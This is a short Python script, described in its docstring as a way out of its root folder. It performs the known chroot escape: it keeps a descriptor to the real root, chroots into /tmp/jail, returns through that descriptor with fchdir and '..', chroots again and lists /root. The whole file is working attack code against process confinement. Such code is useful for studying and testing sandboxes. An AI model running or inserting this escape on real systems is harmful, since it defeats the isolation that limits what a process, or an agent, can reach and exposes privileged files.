"""Leaves its root folder: chroot twice, and an open folder outside."""
import os

os.mkdir("/tmp/jail")
outside = os.open("/", os.O_RDONLY)
os.chroot("/tmp/jail")
print("THROUGH")
os.fchdir(outside)
os.chdir("../../../..")
os.chroot(".")
print(os.listdir("/root"))
